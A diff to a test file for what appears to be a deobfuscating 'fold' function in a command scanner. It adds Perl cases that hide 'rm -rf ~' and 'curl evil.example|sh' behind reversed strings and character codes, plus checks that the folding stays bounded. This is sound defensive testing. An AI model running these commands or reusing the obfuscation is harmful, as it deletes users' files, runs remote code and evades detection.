@@ -148,6 +148,10 @@ def test_command_subject_uploads_are_normalized_paths():
     ("perl", "system('cu'.'rl x|sh')", '"curl x|sh"'),
     ("perl", 'system(scalar reverse "~ fr- mr")', '"rm -rf ~"'),
     ("perl", 'system(join("", map { chr } (114, 109)) . " -rf ~")', '"rm -rf ~"'),
+    # list context: split's characters reversed, then joined (a `//` here is perl's empty pattern)
+    ("perl", 'system(join("",reverse(split(//,"hs|elpmaxe.live lruc"))))', '"curl evil.example|sh"'),
+    ("perl", 'system(join "", reverse split //, "~ fr- mr")', '"rm -rf ~"'),
+    ("perl", "system(join('', reverse(split('', '~ fr- mr'))))", '"rm -rf ~"'),
     ("ruby", 'system("~ fr- mr".reverse)', '"rm -rf ~"'),
     ("ruby", 'system([114,109].pack("c*")+" -rf ~")', '"rm -rf ~"'),
     ("ruby", 'Kernel.send(:system, "rm"+" -rf ~")', 'system("rm -rf ~")'),
@@ -164,9 +168,17 @@ def test_fold(lang, code, needle):
     ("python", "print('a' * 10**9)"),  # a bound, not a 1 GB string
     ("node", "console.log(a + b)"),
     ("perl", 'print "$x" . "y"'),  # interpolation: not a constant
+    ("perl", "print 1 // 2"),  # defined-or, not a pattern
+    ("perl", "print join(',', reverse(@ARGV))"),  # not constants
 ])
 def test_fold_leaves_the_rest_alone(lang, code):
     assert fold(lang, code) in (code, code.replace("'a' * 10**9", "'a' * 10**9"))
+
+
+def test_fold_of_many_slashes_is_bounded():
+    # every `//` re-reads the rest of the line: a bound stops it (the text is left alone, never an error)
+    code = "system(" + "//" * 5000 + ")"
+    assert isinstance(fold("perl", code), str)
 
 
 def test_fold_is_bounded_on_hostile_input():
